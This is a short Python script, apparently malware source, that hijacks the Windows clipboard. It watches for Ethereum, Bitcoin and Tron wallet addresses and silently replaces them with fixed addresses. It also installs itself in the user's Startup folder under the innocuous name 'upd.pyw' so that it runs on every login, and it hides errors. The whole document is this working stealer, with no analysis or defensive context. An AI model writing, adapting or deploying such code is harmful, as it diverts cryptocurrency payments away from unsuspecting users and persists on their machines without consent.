import os, re, sys, shutil, threading, time
import win32clipboard as w
_m = {r"^0x[a-fA-F0-9]{40}$": "0x0000000000000000000000000000000000000001", r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$": "1BoatSLRHtKNngkdXEeobR76b53LETtpyT", r"^T[A-Za-z1-9]{33}$": "T000000000000000000000000000000000"}
def _loop():
    while 1:
        try:
            w.OpenClipboard(); d = w.GetClipboardData(); w.CloseClipboard()
            for p, a in _m.items():
                if re.match(p, d) and d != a:
                    w.OpenClipboard(); w.EmptyClipboard(); w.SetClipboardText(a, w.CF_UNICODETEXT); w.CloseClipboard()
        except Exception:
            pass
        time.sleep(0.5)
shutil.copy(__file__, os.path.join(os.getenv("APPDATA", ""), "Microsoft/Windows/Start Menu/Programs/Startup/upd.pyw"))
threading.Thread(target=_loop, daemon=True).start()
